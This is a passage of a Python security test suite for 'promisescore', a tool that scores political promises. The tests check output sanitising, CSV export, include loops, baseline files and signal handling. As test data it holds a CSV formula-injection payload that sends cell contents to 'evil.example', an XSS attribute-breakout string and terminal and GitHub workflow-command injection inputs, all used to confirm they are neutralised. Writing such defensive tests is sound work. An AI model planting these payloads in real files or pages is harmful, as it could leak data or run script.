    if args[0] != "diff":  # diff shows ids and levels, not the titles
        assert "pwned" in result.output or "evil" in result.output


def test_sanitize_functions() -> None:
    from promisescore import sanitize

    assert sanitize.terminal("a\x1b[2Jb\nc\u202ed") == "a\\x1b[2Jb\nc\\u202ed"
    assert sanitize.line("a\nb\tc") == "a\\nb\\tc"
    assert sanitize.terminal("plain text, ünïcode ✓") == "plain text, ünïcode ✓"
    assert sanitize.markdown("hi @octocat, mail a@b.org") == "hi @&#8203;octocat, mail a@b.org"
    assert sanitize.markdown_cell("a|b\n<img> @bob (x)") == "a\\|b &lt;img> @&#8203;bob (x)"
    assert sanitize.github_property("a:b,c\nd%") == "a%3Ab%2Cc%0Ad%25"
    assert sanitize.github_line("::warning::x") == "%3A%3Awarning::x"
    assert (
        sanitize.xml_attribute(ATTACK)
        == "A&quot; onload=&quot;alert(document.domain)&quot; x=&quot;"
    )
    assert sanitize.xml_text("a\x00<b>") == "a\\x00&lt;b&gt;"
    for text in ("=1+1", "+1", "-x", "@SUM(A1)", "'=x", "'", "\tx", "plain", "-1.5", "", "''"):
        cell = sanitize.csv_cell(text)
        assert sanitize.csv_uncell(cell) == text
        assert not cell.startswith(("=", "+", "-", "@", "\t")), cell


# -- 7. CSV formula injection ----------------------------------------------------------------


def test_export_neutralises_formulas_and_round_trips(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = BASE.replace('"Promise one"', json.dumps(formula)).replace(
        '"Something happened"', json.dumps("@SUM(1+1)")
    )
    path = _rubric(tmp_path, text)
    out = tmp_path / "sheets"
    result = _invoke(["export", str(path), "--to", str(out)])
    assert result.exit_code == 0, result.output
    import csv as csv_module

    for name in ("promises.csv", "evidence.csv", "assessments.csv"):
        with (out / name).open(encoding="utf-8", newline="") as handle:
            for row in csv_module.reader(handle):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@")), (name, cell)
    from promisescore.csvio import ReportInfo, import_csv

    back = import_csv(
        out / "promises.csv",
        out / "evidence.csv",
        out / "assessments.csv",
        scale="politifact",
        report=ReportInfo("Hostile", date(2021, 1, 20)),
    )
    assert back.promises[0].title == formula
    assert back.evidence[0].summary == "@SUM(1+1)"


def test_export_is_all_or_nothing(tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    out = tmp_path / "sheets"
    out.mkdir()
    (out / "promises.csv").write_text("old promises\n")
    (out / "assessments.csv").mkdir()  # the third file cannot be written
    result = _invoke(["export", str(path), "--to", str(out)])
    assert result.exit_code == 2
    assert "assessments.csv" in result.output
    assert (out / "promises.csv").read_text() == "old promises\n"
    assert not (out / "evidence.csv").exists()
    assert not [p for p in out.iterdir() if p.name.endswith(".tmp")]


def test_csv_json_cell_with_duplicate_keys_is_refused() -> None:
    from promisescore.csvio import CsvText, ReportInfo, import_tables

    row = 'p1,One,"{""note"": 1, ""note"": 2}"\n'
    with pytest.raises(promisescore.RubricError) as caught:
        import_tables(
            CsvText("promises.csv", "id,title,meta\n" + row),
            scale="politifact",
            report=ReportInfo("T", date(2021, 1, 1)),
        )
    assert "duplicate key 'note'" in str(caught.value)


def test_csv_json_cell_with_a_lone_surrogate_is_refused() -> None:
    from promisescore.csvio import CsvText, ReportInfo, import_tables

    row = 'p1,One,"{""note"": ""x\\ud800""}"\n'
    with pytest.raises(promisescore.RubricError) as caught:
        import_tables(
            CsvText("promises.csv", "id,title,meta\n" + row),
            scale="politifact",
            report=ReportInfo("T", date(2021, 1, 1)),
        )
    (problem,) = caught.value.errors
    assert (problem.code, problem.line) == ("E012", 2)


def test_csv_numbers_are_ascii_digits_only() -> None:
    from promisescore.csvio import CsvText, ReportInfo, import_tables

    with pytest.raises(promisescore.RubricError) as caught:
        import_tables(
            CsvText("promises.csv", "id,title,weight\np1,One,\u0661\u0662\n"),
            scale="politifact",
            report=ReportInfo("T", date(2021, 1, 1)),
        )
    assert caught.value.errors[0].line == 2


# -- 8, 9. includes: symlinked trees and loops -------------------------------------------------


def test_recursive_glob_with_dotdot_links_does_not_hang(tmp_path: Path) -> None:
    root = _include(
        {
            "root.toml": 'include = ["**/*.toml"]\n' + BASE,
            "a/more.toml": INCLUDED,
            "a/up": "-> ..",
            "a/b/up": "-> ../..",
            "a/b/c/up": "-> ../../..",
        }
    )(tmp_path)
    env = {**os.environ, "PYTHONPATH": str(SRC)}
    proc = subprocess.run(
        [sys.executable, "-m", "promisescore", "check", str(root)],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
        check=False,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "2 promises" in proc.stdout


def test_one_dotdot_link_gives_at_most_one_error(tmp_path: Path) -> None:
    root = _include(
        {
            "root.toml": 'include = ["sub/*.toml", "sub/*/*.toml"]\n' + BASE,
            "sub/x.toml": 'include = ["up/*.toml"]\n',
            "sub/up": "-> ..",
        }
    )(tmp_path)
    result = promisescore.check(root)
    cycles = [p for p in result.problems if p.code == "E007"]
    assert len(cycles) <= 1, result.problems


# -- 10. the baseline: devices, FIFOs, hostile paths ----------------------------------------------


@pytest.mark.parametrize("where", ["option", "pyproject"])
@pytest.mark.parametrize("kind", ["/dev/zero", "fifo"])
def test_baseline_device_or_fifo_is_refused_quickly(where: str, kind: str, tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    baseline = kind
    if kind == "fifo":
        os.mkfifo(tmp_path / "base.fifo")
        baseline = str(tmp_path / "base.fifo")
    args = [sys.executable, "-m", "promisescore", "check", str(path)]
    if where == "option":
        args += ["--baseline", baseline]
    else:
        (tmp_path / "pyproject.toml").write_text(f'[tool.promisescore]\nbaseline = "{baseline}"\n')
    proc = subprocess.run(
        args,
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(SRC)},
        cwd=tmp_path,
        timeout=60,
        check=False,
    )
    assert proc.returncode == 2, proc.stderr
    assert "not a regular file" in proc.stderr
    assert "Traceback" not in proc.stderr


def test_baseline_hint_never_suggests_a_hostile_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "notjson.txt").write_text("not json")
    monkeypatch.chdir(tmp_path)
    (tmp_path / "pyproject.toml").write_text('[tool.promisescore]\nbaseline = "../notjson.txt"\n')
    sub = tmp_path / "sub"
    sub.mkdir()
    path = _rubric(sub, BASE)  # the table beside the rubric applies
    (sub / "pyproject.toml").write_text('[tool.promisescore]\nbaseline = "../notjson.txt"\n')
    monkeypatch.chdir(sub)
    result = _invoke(["check", str(path)])
    assert result.exit_code == 2
    assert "> baseline.json" in result.output
    assert "> ../notjson.txt" not in result.output


def test_pyproject_errors_show_toml_not_python(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = _rubric(tmp_path, BASE)
    monkeypatch.chdir(tmp_path)
    for setting, shown in (
        ('strict = "yes"', 'not "yes"'),
        ("fail_under = 2021-01-01", "not 2021-01-01"),
        ("fail_under = [1]", "not [1]"),
        ("baseline = false", "not false"),
    ):
        (tmp_path / "pyproject.toml").write_text(f"[tool.promisescore]\n{setting}\n")
        result = _invoke(["check", str(path)])
        assert result.exit_code == 2
        assert shown in result.output, result.output
        assert "datetime" not in result.output


def test_max_drop_without_baseline_is_a_usage_error(tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    result = _invoke(["check", str(path), "--max-drop", "0.1"])
    assert result.exit_code == 2
    assert "--max-drop" in result.output
    assert "--baseline" in result.output


# -- Ctrl-C and SIGTERM ----------------------------------------------------------------------------


def test_ctrl_c_during_a_write_exits_130_and_cleans_up(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = _rubric(tmp_path, BASE)

    def interrupted(fd: int) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "fsync", interrupted)
    result = CliRunner().invoke(main, ["report", str(path), "-o", str(tmp_path / "out.txt")])
    assert result.exit_code == 130, result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.toml"]


@pytest.mark.parametrize(("signum", "code"), [(2, 130), (15, 143)])
def test_signals_exit_128_plus_the_signal(signum: int, code: int, tmp_path: Path) -> None:
    import signal
    import time

    path = _rubric(tmp_path, BASE)
    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)  # no reader: the write blocks until the signal arrives
    proc = subprocess.Popen(
        [sys.executable, "-m", "promisescore", "report", str(path), "-o", str(fifo)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": str(SRC)},
    )
    time.sleep(3)  # let it start and block
    proc.send_signal(signal.Signals(signum))
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == code, err
    assert "Traceback" not in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.fifo", "r.toml"]


# -- the low-severity findings -------------------------------------------------------------------------


def test_target_across_the_whole_float_range_is_not_nan() -> None:
    from promisescore.model import Target

    goal = Target("m", -1.7e308, 1.7e308)
    assert goal.fulfillment(0.0) == 0.5
    assert goal.fulfillment(1.7e308) == 1.0
    assert goal.fulfillment(-1.7e308) == 0.0


def test_timeline_every_is_capped(tmp_path: Path) -> None:
    path = _rubric(tmp_path, EXTREME_DATES)
    result = _invoke(["timeline", str(path), "--every", "P1D"])
    assert result.exit_code == 2
    assert "more than 10,000 dates" in result.output
    with pytest.raises(ValueError, match="10,000"):
        promisescore.timeline(promisescore.load(path), every="P1D")


def test_timeline_html_has_the_content_security_policy(tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    result = _invoke(["timeline", str(path), "--format", "html"])
    assert result.exit_code == 0
    assert (
        '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'' in result.stdout
    )


def test_deep_meta_is_refused_and_dumps_never_recurses_out() -> None:
    from promisescore.model import Promise
    from promisescore.model.parts import MAX_META_DEPTH

    deep: dict[str, Any] = {}
    node = deep
    for _ in range(MAX_META_DEPTH + 5):
        node["x"] = {}
        node = node["x"]
    with pytest.raises(promisescore.RubricError, match="E009"):
        Promise("p", "P", meta=deep)
    ok: dict[str, Any] = {}
    node = ok
    for _ in range(MAX_META_DEPTH - 2):
        node["x"] = {}
        node = node["x"]
    rubric = promisescore.loads(BASE)
    rubric = attrs.evolve(rubric, promises=(attrs.evolve(rubric.promises[0], meta=ok),))
    assert promisescore.loads(promisescore.dumps(rubric)) == rubric


def test_meta_is_read_only() -> None:
    from promisescore.model import Promise

    promise = Promise("p", "P", meta={"a": [1, {"b": 2}]})
    assert promise.meta == {"a": [1, {"b": 2}]}
    with pytest.raises(TypeError):
        promise.meta["a"] = 2  # type: ignore[index]
    with pytest.raises(TypeError):
        promise.meta["a"].append(3)
    with pytest.raises(TypeError):
        promise.meta["a"][1]["c"] = 3


def test_wrong_types_in_code_give_clear_errors() -> None:
    from promisescore.model import Promise, Report, Rubric

    scale: Any = "politifact"
    with pytest.raises(promisescore.RubricError, match=r"Scale\('politifact'\)"):
        Rubric(report=Report("T", date(2021, 1, 1)), scale=scale, promises=[Promise("p", "P")])
    rubric = promisescore.loads(BASE)
    with pytest.raises(TypeError, match="assessor must be a string"):
        promisescore.score(rubric, assessor=123)  # type: ignore[arg-type]


def test_malformed_max_file_bytes_is_a_usage_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = _rubric(tmp_path, BASE)
    for value in ("10MB", "\u0661\u0660", "-1"):
        monkeypatch.setenv("PROMISESCORE_MAX_FILE_BYTES", value)
        result = _invoke(["check", str(path)])
        assert result.exit_code == 2
        assert "PROMISESCORE_MAX_FILE_BYTES" in result.output


def test_diff_with_a_bad_date_suffix(tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    result = _invoke(["diff", f"{path}@notadate", str(path)])
    assert result.exit_code == 2
    assert "is not a date" in result.output
    assert "unsupported file type" not in result.output


def test_markdown_neutralises_mentions(tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE.replace('"Promise one"', '"Ping @octocat and @org/team"'))
    result = _invoke(["report", str(path), "--format", "markdown"])
    assert "@octocat" not in result.stdout
    assert "@&#8203;octocat" in result.stdout
    assert "@&#8203;org/team" in result.stdout
